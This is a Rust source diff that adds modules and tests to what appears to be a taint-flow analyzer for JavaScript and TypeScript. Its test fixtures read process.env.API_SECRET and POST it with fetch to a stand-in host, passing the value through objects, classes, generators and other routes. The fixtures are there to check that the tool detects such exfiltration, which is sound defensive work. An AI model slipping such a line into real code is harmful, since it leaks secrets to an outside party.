@@ -9,12 +9,17 @@
 //! not seen by the interpreter, is a flow all the same: one whose way is not known ([`Flow::is_followed`]).
 
 mod call;
+mod class;
+mod connect;
 mod expression;
 mod function;
 mod graph;
+mod jsx;
+mod member;
 mod pattern;
 mod runtime;
 mod sink;
+mod variable;
 
 use oxc_ast::ast::{Program, Statement};
 use oxc_ast_visit::Visit;
@@ -273,6 +278,117 @@ impl<'s> Cover<'s> {
             for call in again {
                 self.connect(call);
             }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use oxc_allocator::Allocator;
+    use oxc_ast::ast::{CallExpression, NewExpression, TaggedTemplateExpression};
+    use oxc_ast_visit::{Visit, walk};
+    use oxc_parser::Parser;
+    use oxc_semantic::SemanticBuilder;
+    use oxc_span::SourceType;
+
+    use super::*;
+    use crate::format::script::collect::span_of;
+    use crate::format::script::interpret::{Effort, interpret};
+    use crate::subject::flow::Strength;
+
+    /// Every kind of expression, statement and declaration in which a call can stand.
+    const EVERYWHERE: &str = r#"
+        import a = N.c; export const z = f1(); export default f2();
+        namespace N { export const c = f3(); namespace M { f4() } }
+        enum E { A = f5(), B = 2 }
+        @f6() class C extends f7() { @f8() [f9()] = f10(); static x = f11(); accessor y = f12(); static { f13() }
+            constructor(private p = f14()) { super(f15()) } get g() { return f16() } set g(v) { f17(v) } #h = f18(); m(@f19() q) { super.m(f20()) } }
+        label: for (let i = f21(); f22(); f23()) { continue label }
+        for (const k in f24()) f25(); for (const v of f26()) f27(); for await (const w of f28()) f29();
+        while (f30()) f31(); do f32(); while (f33()); if (f34()) f35(); else f36();
+        switch (f37()) { case f38(): f39(); default: f40() }
+        try { f41() } catch ({ message = f42() }) { f43() } finally { f44() }
+        const { [f45()]: d = f46(), ...rest } = f47(), [e1 = f48(), ...e2] = f49();
+        ({ [f50()]: o.p = f51() } = f52()); [q[f53()] = f54()] = f55(); x ||= f56(); x.y += f57(); x[f58()]++;
+        (f59(), f60()) ? f61() : f62(); f63() && f64() ?? 0; -f65(); typeof f66(); void f67(); f68() as any; f69()!; <any>f70(); f71() satisfies any;
+        `${f72()}`; tag`${f73()}`; f74()`x`; new (f75())(f76(), ...f77()); f78()?.[f79()]?.(f80()); [f81(), ...f82()];
+        ({ a: f83(), [f84()]: f85(), ...f86(), get b() { return f87() }, set b(v) { f88() }, c() { f89() }, async *d() { yield f90(); yield* f91(); await f92() } });
+        (a1 = f93(), { b1 = f94() }) => f95(); (function (c1 = f96()) { return f97() }); import(f98(), f99()); #h in f100(); throw f101(); function later() { f102() }
+    "#;
+
+    struct Calls(Vec<Span>);
+
+    impl<'a> Visit<'a> for Calls {
+        fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
+            self.0.push(span_of(it));
+            walk::walk_call_expression(self, it);
+        }
+
+        fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
+            self.0.push(span_of(it));
+            walk::walk_new_expression(self, it);
+        }
+
+        fn visit_tagged_template_expression(&mut self, it: &TaggedTemplateExpression<'a>) {
+            self.0.push(span_of(it));
+            walk::walk_tagged_template_expression(self, it);
+        }
+    }
+
+    fn covered<R>(text: &str, look: impl FnOnce(&Program<'_>, &Cover<'_>, &Interpretation) -> R) -> R {
+        let arena = Allocator::default();
+        let parsed = Parser::new(&arena, text, SourceType::ts()).parse();
+        let scoping = SemanticBuilder::new().build(&parsed.program).semantic.into_scoping();
+        let found = interpret(&parsed.program, &scoping, &[], Effort::of(true, 1_000, 1_000_000), None);
+        let matters = origins_that_matter(&found.origins, true);
+        let mut cover = Cover::new(&scoping, &[], &found, matters);
+        cover.visit_program(&parsed.program);
+        assert!(cover.settle(10_000_000));
+        look(&parsed.program, &cover, &found)
+    }
+
+    #[test]
+    fn every_call_in_the_tree_is_looked_at() {
+        covered(EVERYWHERE, |program, cover, _| {
+            let mut calls = Calls(Vec::new());
+            calls.visit_program(program);
+            assert!(100 < calls.0.len(), "the script does not parse");
+            let seen: FxHashSet<Span> = cover.sites.iter().map(|site| site.span).collect();
+            let missed: Vec<&str> = calls.0.iter().filter(|span| !seen.contains(span)).map(|span| span.slice(EVERYWHERE)).collect();
+            assert!(missed.is_empty(), "{missed:?}");
+        });
+    }
+
+    #[test]
+    fn what_the_interpreter_sees_reaching_a_call_may_reach_it() {
+        for way in [
+            "const out = s;",
+            "const box = { in: { deep: s } }; const out = box.in.deep;",
+            "const out = [s].map((v) => v + '!').join();",
+            "const all = new Map([['k', s]]); const out = all.get('k');",
+            "const out = await Promise.resolve(s).then((v) => [v]);",
+            "function give(v) { return { v } } const { v: out } = give(s);",
+            "class A { #k; constructor(k) { this.#k = k } tell() { return this.#k } } const out = new A(s).tell();",
+            "const out = JSON.stringify({ s, n: 1 });",
+            "let out; try { throw s } catch (e) { out = e }",
+            "function* g() { yield s } const [out] = g();",
+        ] {
+            let text =
+                format!("const s = process.env.API_SECRET; {way} await fetch('https://x.example.net/', {{ method: 'POST', body: out }});");
+            covered(&text, |_, cover, found| {
+                let whole: Vec<_> = found.flows.iter().filter(|flow| flow.strength == Strength::Whole).collect();
+                assert!(!whole.is_empty(), "the interpreter sees nothing: {way}");
+                for flow in whole {
+                    let mark = cover.mark_of(flow.origin);
+                    let places: Vec<Span> = found.places.iter().filter(|(_, call)| *call == flow.sink).map(|(span, _)| *span).collect();
+                    let reaches = cover
+                        .sites
+                        .iter()
+                        .filter(|site| places.contains(&site.span))
+                        .any(|site| site.leaves.iter().any(|(_, node)| cover.graph.held(*node).all() & mark == mark));
+                    assert!(reaches, "{way}: {flow:?}");
+                }
+            });
         }
     }
 }
